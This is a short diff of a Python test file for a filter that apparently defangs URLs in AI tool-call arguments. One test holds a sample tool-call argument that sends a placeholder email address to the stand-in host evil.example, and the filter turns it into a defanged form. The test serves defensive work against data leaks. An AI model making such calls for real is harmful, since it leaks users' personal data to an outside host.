@@ -344,7 +344,7 @@ def test_nothing_that_runs_can_be_followed(text: str) -> None:
 def test_what_is_harmless_stays_as_it_is(text: str) -> None:
     output, current = answered(text, HOSTS)
     assert output == text
-    assert current.findings == []
+    assert not current.findings
 
 
 def test_an_address_of_the_prompt_is_nothing_new() -> None:
@@ -373,7 +373,7 @@ def test_arguments_of_tools_keep_their_markup_and_their_addresses_are_read() -> 
     assert run(stage.open(current, ARGUMENTS), list(kept))[0] == kept
     sent = '{"url": "https:\\/\\/evil.example\\/?q=\\u003cEMAIL_ADDRESS_1\\u003e"}'
     assert run(stage.open(current, ARGUMENTS), list(sent))[0] == (
-        '{"url": "hxxps://evil[.]example/?q=<EMAIL_ADDRESS_1>"}'
+        '{"url": "hxxps://evil[.]example/?q=\\u003cEMAIL_ADDRESS_1\\u003e"}'
     )
 
 
